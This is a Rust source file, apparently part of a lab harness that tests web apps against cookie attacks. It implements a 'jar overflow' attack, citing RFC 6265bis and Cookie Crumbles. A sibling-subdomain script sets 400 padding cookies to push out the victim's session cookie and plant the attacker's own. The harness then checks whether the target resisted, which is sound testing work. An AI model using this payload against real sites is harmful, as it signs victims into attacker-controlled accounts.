//! A jar that overflows.

use super::tossed::tossed;

use crate::attack::{
    places::SIBLING,
    plan::{Attack, Expected, Found, Needs, Tried},
    stage::Stage,
};

pub(in crate::attack) const ATTACK: Attack = Attack {
    id: "jar-overflow",
    title: "A jar that overflows",
    has: "a sibling subdomain, and an account of his own",
    does: "sets so many cookies that the browser throws the oldest away, and then his own in its place",
    gains: "the victim in the attacker's account, though the victim's cookie could not be overwritten",
    source: "RFC 6265bis section 8.7 and 5.7; Squarcina et al., Cookie Crumbles (USENIX Security 2023)",
    expected: Expected::EVERYWHERE.not_careless_jwt("its client holds no cookie"),
    needs: Needs::Browser,
    run: |stage| Box::pin(run(stage)),
};

async fn run(stage: &Stage) -> Tried {
    let (victim, page) = stage.visitor("victim").await?;
    let mallory = stage.person("mallory");
    stage.target.sign_up(&mallory).await?;
    let own = stage.target.sign_in_by_cookie(&mallory, None).await?;
    let fill = "<script>for (let i = 0; i < 400; i++) document.cookie = `pad${i}=x; Domain=shop.test; Path=/; Secure`</script>";
    page.open(&stage.lab.places.publish(SIBLING, fill)).await?;
    // What script sets is not there at once, and could push out what comes after it.
    page.until("document.cookie.includes('pad399=')").await?;
    page.open(&stage.lab.places.publish_with(SIBLING, "Read my blog", tossed(&own, "/"))).await?;
    let greeted = stage.greeted(&page).await?;
    stage.show(&page, "the victim's browser after the visit").await?;
    Ok(if greeted == mallory.email {
        Found::Worked("the victim is in the attacker's account".to_owned())
    } else if greeted == victim.email {
        Found::Refused("the victim is who he was".to_owned())
    } else {
        Found::Refused(
            "the victim is signed out, and knows it; nothing could be put in the place of the cookie".to_owned(),
        )
    })
}
